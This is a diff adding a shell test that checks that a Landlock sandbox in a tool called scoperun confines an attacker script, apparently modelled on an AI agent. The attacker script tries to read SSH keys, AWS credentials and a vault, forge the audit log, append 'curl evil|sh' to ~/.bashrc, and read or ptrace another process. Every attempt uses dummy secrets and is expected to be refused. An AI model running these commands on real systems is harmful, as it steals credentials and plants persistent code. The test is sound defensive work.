@@ -1,0 +1,285 @@
+#!/bin/sh
+# t_sandbox.sh - [sandbox] with real processes (SPEC §9): an attacker
+# script inside a confined run tries what issue 12 found an agent can do,
+# as an unprivileged user (a test user is made when root), in exec mode
+# and in supervised mode with masking. Every denial is paired with a
+# control the same script must still manage, so the test cannot pass by
+# everything failing. Policy errors and check/explain come first.
+here=$(cd "$(dirname "$0")" && pwd)
+. "$here/lib.sh"
+
+# ---- policy errors with file:line (as the caller, any user) ----------
+mkdir -p "$T/proj0"
+cd "$T/proj0" || exit 1
+refuse() {	# refuse NAME REGEX WHAT: the run exits 125 with REGEX
+	sr "$1" -- /bin/true
+	refused 125 "$2" "$3"
+}
+{ header e1; printf '[sandbox]\nwrite = ["src"]\n'; } | policy e1
+refuse e1 "sandbox.write: 'src' is a relative path .*e1.toml:7\\)$" \
+    "a relative path"
+{ header e2; printf '[sandbox]\nwrite = ["/nonexistent-sr-dir"]\n'; } |
+    policy e2
+refuse e2 "sandbox.write: /nonexistent-sr-dir does not exist .*e2.toml:7\\)" \
+    "a writable root that does not exist"
+{ header e3; printf '[sandbox]\nwrite = ["~"]\n'; } | policy e3
+refuse e3 "sandbox.write: .*/home holds the hidden path .*/home/.ssh .*e3.toml:7\\)" \
+    "a hidden path under a writable root"
+{ header e4; printf '[sandbox]\nwrite = ["."]\ntcp_connect = [70000]\n'; } |
+    policy e4
+refuse e4 "tcp_connect\\[0\\] must be a TCP port from 1 to 65535 .*e4.toml:8\\)" \
+    "a port out of range"
+{ header e5; printf '[sandbox]\nwrite = ["."]\nunix = false\n'; } | policy e5
+refuse e5 "unknown key 'unix' in \\[sandbox\\] .*e5.toml:8\\)" "an unknown key"
+{ header e6; printf '[sandbox]\nwrite = ["."]\nhide = ["~/.nothere"]\n'; } |
+    policy e6
+sr policy check e6
+expect_rc 0 "a hidden path that does not exist is allowed"
+expect_err "warning: sandbox.hide: .*/.nothere does not exist" \
+    "policy check warns about a hidden path that does not exist"
+{ header e7; printf '[sandbox]\nwrite = ["."]\nread = ["/usr", "/etc", "~"]\n'; } |
+    policy e7
+mkdir -p "$HOME/.ssh"
+sr policy check e7
+expect_err "warning: sandbox.read: .*/home holds the hidden path .*cannot list it" \
+    "policy check warns about a read root holding a hidden path"
+sr policy explain e7
+expect_out "^sandbox +Landlock ABI" "explain names the mechanism"
+expect_out "^reads +/usr /etc .*/home$" "explain lists the read roots"
+expect_out "^hidden .*/home/.ssh .*/scoperun/identity" "explain lists the hidden paths"
+
+abi=$(sed -n 's/^sandbox *Landlock ABI \([0-9]*\).*/\1/p' "$T/out")
+if [ -z "$abi" ] || [ "$abi" -lt 6 ]; then
+	echo "t_sandbox: the kernel's Landlock ABI is '${abi:-none}' (< 6): skipping the runs"
+	finish
+	exit 77
+fi
+command -v cc >/dev/null 2>&1 || { echo "t_sandbox: no cc"; exit 77; }
+
+# ---- the world of an unprivileged user ---------------------------------
+U=$T/u
+mkdir -p "$U"
+if [ "$(id -u)" -eq 0 ]; then
+	user=srsbx
+	id "$user" >/dev/null 2>&1 ||
+	    useradd -M -d /nonexistent -s /bin/sh "$user" 2>/dev/null ||
+	    { echo "t_sandbox: cannot add a test user"; exit 77; }
+	chmod 711 "$T"
+	chown "$user:" "$U"
+	AS="setpriv --reuid=$user --regid=$user --clear-groups --"
+else
+	AS=
+fi
+# as_user CMD...: run CMD as the unprivileged user (an exec, so a
+# background job's $! is the command's own pid)
+as_user() { $AS "$@"; }
+cc -o "$U/probe" "$SR_TESTS/e2e/sbx_probe.c" || { echo "t_sandbox: probe"; exit 77; }
+chmod 755 "$U/probe"
+
+# the user's own setup, as the user: identity, vault, a secret, the
+# stores an attacker wants, a git project
+UH=$U/home
+cat >"$U/setup.sh" <<EOF
+set -e
+umask 077
+export HOME=$UH XDG_CONFIG_HOME=$UH/.config XDG_DATA_HOME=$UH/.local/share
+export XDG_STATE_HOME=$UH/.local/state
+mkdir -p \$HOME/.ssh \$HOME/.aws \$XDG_CONFIG_HOME/scoperun/policies $U/proj
+echo SSH-PRIVATE-KEY >\$HOME/.ssh/id_ed25519
+echo AWS-SECRET >\$HOME/.aws/credentials
+echo 'alias ll=ls' >\$HOME/.bashrc
+"$SCOPERUN" init >/dev/null
+printf 'granted-token-0123456789' | "$SCOPERUN" secret set tok
+cd $U/proj
+git init -q .
+git -c user.name=t -c user.email=t@e commit -q --allow-empty -m init
+EOF
+chmod 644 "$U/setup.sh"
+as_user sh "$U/setup.sh" >"$T/out" 2>"$T/err" </dev/null
+rc=$?
+expect_rc 0 "the user's setup"
+
+# ports: two listeners (one listed for connect), one to bind that is
+# not listed, one that is
+port_ok=$((20000 + $$ % 20000))
+port_no=$((port_ok + 1))
+bind_no=$((port_ok + 2))
+bind_ok=$((port_ok + 3))
+$AS "$U/probe" listen "$port_ok" 60 >/dev/null 2>&1 &
+l1=$!
+$AS "$U/probe" listen "$port_no" 60 >/dev/null 2>&1 &
+l2=$!
+# a process of the user's started outside any sandbox, holding a secret
+$AS env VICTIM_SECRET=outside-secret-42 sleep 60 &
+victim_pid=$!
+sleep 0.5
+
+# the attacker: each attempt prints GOT:WHAT (it worked) or NO:WHAT;
+# each control OK:WHAT or FAIL:WHAT
+cat >"$U/proj/attack.sh" <<'EOF'
+vp=$1 port_ok=$2 port_no=$3 probe=$4 sr=$5 bind_no=$6 bind_ok=$7
+H=$HOME C=$HOME/.config/scoperun
+try() { w=$1; shift; if "$@" >/dev/null 2>&1; then echo "GOT:$w"; else echo "NO:$w"; fi; }
+must() { w=$1; shift; if "$@" >/dev/null 2>&1; then echo "OK:$w"; else echo "FAIL:$w"; "$@" 2>&1 | head -2; fi; }
+try identity cat "$C/identity"
+try vault cat "$H/.local/share/scoperun/vault.sealed"
+try ssh cat "$H/.ssh/id_ed25519"
+try ssh-list ls "$H/.ssh"
+try aws cat "$H/.aws/credentials"
+try audit-append sh -c "echo forged >>'$H/.local/state/scoperun/audit.jsonl'"
+try audit-truncate truncate -s 0 "$H/.local/state/scoperun/audit.jsonl"
+try policy-edit sh -c "echo '# x' >>'$C/policies/atk.toml'"
+try policy-new sh -c "echo '[agent]' >'$C/policies/evil.toml'"
+try bashrc sh -c "echo 'curl evil|sh' >>'$H/.bashrc'"
+try environ sh -c "grep -q VICTIM_SECRET /proc/$vp/environ"
+try ptrace "$probe" ptrace "$vp"
+try signal kill -0 "$vp"
+try tcp-unlisted "$probe" connect "$port_no"
+try tcp-bind "$probe" bind "$bind_no"
+try secret-ls "$sr" secret ls
+must project-write sh -c 'echo data $$ >out.txt'
+must project-read grep -q data out.txt
+must etc cat /etc/passwd
+must usr ls /usr/bin
+must tmp-private sh -c 'mkdir -p sub && echo x >sub/y && rm -r sub'
+must git-status git status --porcelain
+must git-commit sh -c 'git add out.txt && git -c user.name=a -c user.email=a@e commit -qm agent'
+must granted sh -c 'test "$TOKEN" = granted-token-0123456789'
+must tcp-listed "$probe" connect "$port_ok"
+must devnull sh -c 'echo x >/dev/null'
+must tcp-bind-listed "$probe" bind "$bind_ok"
+EOF
+chmod 644 "$U/proj/attack.sh"
+
+# the controls that prove the attacks could work without the sandbox
+outside() {
+	as_user "$@" >/dev/null 2>&1 && ok || bad "outside the sandbox: $*"
+}
+outside grep -q VICTIM_SECRET "/proc/$victim_pid/environ"
+outside kill -0 "$victim_pid"
+outside "$U/probe" connect "$port_no"
+outside "$U/probe" bind "$bind_no"
+outside "$U/probe" ptrace "$victim_pid"
+outside cat "$UH/.ssh/id_ed25519"
+
+# run MODE: the attacker under the policy atk (exec or supervised)
+run_attack() {
+	mode=$1
+	{ header atk
+	  printf '[env]\ninherit = ["PATH", "HOME", "XDG_*"]\n'
+	  printf '[secrets]\nTOKEN = "tok"\n'
+	  [ "$mode" = supervised ] && printf '[exec]\nmask_output = true\n'
+	  printf '[sandbox]\nwrite = ["."]\ntcp_connect = [%s]\ntcp_bind = [%s]\n' \
+	      "$port_ok" "$bind_ok"; } >"$U/atk.toml"
+	cat >"$U/run.sh" <<EOF
+export HOME=$UH XDG_CONFIG_HOME=$UH/.config XDG_DATA_HOME=$UH/.local/share
+export XDG_STATE_HOME=$UH/.local/state
+cp $U/atk.toml \$XDG_CONFIG_HOME/scoperun/policies/atk.toml
+chmod 600 \$XDG_CONFIG_HOME/scoperun/policies/atk.toml
+cd $U/proj
+"$SCOPERUN" atk -- sh attack.sh $victim_pid $port_ok $port_no $U/probe "$SCOPERUN" $bind_no $bind_ok
+EOF
+	chmod 644 "$U/run.sh" "$U/atk.toml"
+	as_user sh "$U/run.sh" >"$T/out" 2>"$T/err" </dev/null
+	rc=$?
+	expect_rc 0 "$mode: the confined run"
+	for w in identity vault ssh ssh-list aws audit-append audit-truncate \
+	    policy-edit policy-new bashrc environ ptrace signal tcp-unlisted \
+	    tcp-bind secret-ls; do
+		expect_out "^NO:$w\$" "$mode: the attacker is refused $w"
+	done
+	for w in project-write project-read etc usr tmp-private git-status \
+	    git-commit granted tcp-listed devnull tcp-bind-listed; do
+		expect_out "^OK:$w\$" "$mode: the agent can still $w"
+	done
+	expect_no_out "GOT:|FAIL:" "$mode: nothing else"
+}
+run_attack exec
+run_attack supervised
+
+# the victim lived through it all; its secret and the stores are intact
+kill -0 "$victim_pid" 2>/dev/null && ok || bad "the victim was killed"
+grep -q '^alias ll=ls$' "$UH/.bashrc" && ! grep -q evil "$UH/.bashrc" &&
+    ok || bad "~/.bashrc was changed"
+[ ! -e "$UH/.config/scoperun/policies/evil.toml" ] && ok ||
+    bad "the attacker wrote a policy"
+
+# the run record says what was enforced; the log still verifies
+cat >"$U/verify.sh" <<EOF
+export HOME=$UH XDG_STATE_HOME=$UH/.local/state
+"$SCOPERUN" audit verify
+EOF
+chmod 644 "$U/verify.sh"
+as_user sh "$U/verify.sh" >"$T/out" 2>"$T/err" </dev/null
+rc=$?
+expect_rc 0 "the audit log verifies after the attacks"
+rec=$UH/.local/state/scoperun/audit.jsonl
+grep '"event":"run"' "$rec" | tail -1 >"$T/out"
+expect_out '"sandbox":\{"mechanism":"landlock","abi":[0-9]+,"write":\["[^"]*/proj"\],"read":"all","hidden":\[' \
+    "the run record names the mechanism, ABI and roots"
+expect_out "\"tcp_connect\":\\[$port_ok\\],\"tcp_bind\":\\[$bind_ok\\],\"degraded\":\\[\\]" \
+    "the run record names the ports and nothing degraded"
+grep -q '"event":"exit"' "$rec" && ok || bad "the supervised exit is recorded"
+
+# ---- the shipped templates do their job confined ------------------
+# Their roots name /tmp, so their HOME must lie elsewhere (/var/tmp).
+W=$(mktemp -d /var/tmp/sr-e2e-tpl.XXXXXX 2>/dev/null) || W=
+if [ -n "$W" ] && [ -d "$W" ]; then
+	cat >"$U/tpl.sh" <<EOT
+export HOME=$W/home XDG_CONFIG_HOME=$W/home/.config
+export XDG_DATA_HOME=$W/home/.local/share XDG_STATE_HOME=$W/home/.local/state
+P=\$XDG_CONFIG_HOME/scoperun/policies
+SR="$SCOPERUN"
+SRC="$SR_SOURCE"
+PROJ=$W/proj
+EOT
+	cat >>"$U/tpl.sh" <<'EOT'
+mkdir -p "$P" "$HOME/.npm" "$HOME/.ssh" "$PROJ"
+echo KEY >"$HOME/.ssh/id_ed25519"
+echo 'token=x' >"$HOME/.npmrc"
+for t in coding-agent ci-build diagnostics; do
+	sed 's/^owner = .*/owner = "t@e"/' "$SRC/policies/$t.toml" >"$P/$t.toml"
+	chmod 600 "$P/$t.toml"
+done
+cd "$PROJ" || exit 1
+for t in coding-agent ci-build diagnostics; do
+	"$SR" policy check $t >/dev/null 2>&1 && echo "OK:check-$t" ||
+	    echo "FAIL:check-$t"
+done
+# the build agent (its grant dropped: no vault here): make and cc write
+# the project and read the system, and cannot read ~/.ssh
+sed -i '/^\[secrets.REGISTRY_TOKEN\]/,/^expires/d' "$P/ci-build.toml"
+printf 'int main(void) { return 0; }\n' >main.c
+printf 'hello: main.c\n\tcc -o hello main.c\nkey:\n\tcat $(HOME)/.ssh/id_ed25519\n' >Makefile
+"$SR" ci-build -- make -s hello >/dev/null 2>&1 && [ -x hello ] &&
+    echo OK:ci-make || echo FAIL:ci-make
+"$SR" ci-build -- make -s key >/dev/null 2>&1 && echo GOT:ci-ssh ||
+    echo NO:ci-ssh
+# the MCP server's sandbox (sh stands in for npx: no network here): npm's
+# cache and /tmp writable, ~/.npmrc hidden
+sed -i 's/^allow = \["npx", "node"\]/allow = ["npx", "node", "sh"]/
+/^\[secrets.GITHUB_TOKEN\]/,/^expires/d' "$P/coding-agent.toml"
+"$SR" coding-agent -- sh -c 'mkdir -p ~/.npm/_cacache &&
+    echo x >~/.npm/_cacache/y && echo x >/tmp/sr-tpl-$$ && rm /tmp/sr-tpl-$$' &&
+    echo OK:mcp-cache || echo FAIL:mcp-cache
+"$SR" coding-agent -- sh -c 'cat ~/.npmrc' >/dev/null 2>&1 &&
+    echo GOT:mcp-npmrc || echo NO:mcp-npmrc
+"$SR" diagnostics -- df / >/dev/null && echo OK:diag-df || echo FAIL:diag-df
+EOT
+	chmod 644 "$U/tpl.sh"
+	[ -n "$AS" ] && chown "$user:" "$W"
+	as_user sh "$U/tpl.sh" >"$T/out" 2>"$T/err" </dev/null
+	rc=$?
+	for w in check-coding-agent check-ci-build check-diagnostics ci-make \
+	    mcp-cache diag-df; do
+		expect_out "^OK:$w\$" "template: $w"
+	done
+	expect_out "^NO:ci-ssh\$" "template: the build cannot read ~/.ssh"
+	expect_out "^NO:mcp-npmrc\$" "template: the MCP server cannot read ~/.npmrc"
+	expect_no_out "GOT:|FAIL:" "template: nothing else"
+	rm -rf "$W"
+fi
+
+kill "$victim_pid" "$l1" "$l2" 2>/dev/null
+wait 2>/dev/null
+finish
